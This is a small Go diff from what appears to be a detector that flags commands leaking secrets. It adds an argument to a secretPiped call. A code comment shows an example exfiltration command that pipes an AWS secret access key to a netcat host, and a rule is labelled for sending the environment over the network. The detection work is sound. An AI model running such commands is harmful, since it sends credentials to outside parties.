@@ -348,7 +348,7 @@ func (a *analyzer) given(argv []string, text string) {
 			a.add("exfil/env_to_network", "sends the environment over the network", strings.Join(argv, " "), 0.95)
 		} else if v := secretName.FindString(text); v != "" {
 			// `nc H P <<< "$AWS_SECRET_ACCESS_KEY"`: as the echo piped into it (det70)
-			a.secretPiped(strings.Trim(v, "${"), base(argv[0]), argv[1:], strings.Join(argv, " "))
+			a.secretPiped(strings.Trim(v, "${"), base(argv[0]), argv[1:], strings.Join(argv, " "), "-")
 		}
 	case "sqlite3":
 		a.sqliteDot(text) // carriers.go
